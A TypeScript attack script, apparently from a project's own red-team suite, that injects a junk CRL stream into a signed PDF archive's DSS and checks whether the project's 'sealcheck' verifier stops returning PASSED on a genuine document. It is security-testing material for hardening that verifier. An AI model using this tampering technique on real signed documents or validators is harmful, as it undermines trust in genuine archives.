// a27 (b515ac0, target 2): the cheapest way to turn a genuine archive not-PASSED: one DSS update (no key, no CA item)
// with a CRL stream this reader's lenient reading stops in. The broker's real archive at its sealing time.
// modes:
//   none        control: the DSS update with an honest junk stream (/FlateDecode over random bytes: junk, ignored)
//   pred-junk   /FlateDecode /DecodeParms << /Predictor 1.0 >> over random bytes (b515ac0: not decided)
//   ccitt-junk  /CCITTFaxDecode over random bytes (junk: an image filter)
//   npx tsx scripts/attack-s22/cheap-undecided.ts <none|pred-junk|ccitt-junk>    (DSS=1 EU DSS)
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { spawnSync } from "node:child_process";
import { dss, save, work } from "../attack36/lib.js";
import { withDssStreams, type Stream } from "../attack-s6/lib.js";

const mode = process.argv[2] ?? "pred-junk";
if (!["none", "pred-junk", "ccitt-junk"].includes(mode)) throw new Error("usage: <none|pred-junk|ccitt-junk>");
const REAL = "test/fixtures/real/broker-example";
const AT = "2025-12-08T09:35:10Z";
const pdf = new Uint8Array(readFileSync(`${REAL}/archive.pdf`));
const junk = randomBytes(600);
const latin = (b: Uint8Array) => Buffer.from(b).toString("latin1");
const raw = (keys: string, data: Uint8Array): Stream => ({ raw: `<< ${keys} /Length ${data.length} >>\nstream\n${latin(data)}\nendstream` });
const stream: Stream =
  mode === "none"
    ? raw("/Filter /FlateDecode", deflateSync(junk))
    : mode === "pred-junk"
      ? raw("/Filter /FlateDecode /DecodeParms << /Predictor 1.0 >>", deflateSync(junk))
      : raw("/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 128 >>", junk);
const file = save(work(`a27-cheap-${mode}`), "archive.pdf", withDssStreams(pdf, { crls: [stream] }));
const r = spawnSync("node", ["dist/cli/main.js", "verify", file, "--trust", `${REAL}/trust`, "--at", AT], { encoding: "utf8" });
console.log(
  `== sealcheck (${mode}): exit ${r.status}: ${r.stdout
    .split("\n")
    .filter((l) => /^Verdict|Reason|Decided/.test(l))
    .join(" | ")}`,
);
dss(file, AT, `${REAL}/trust`);
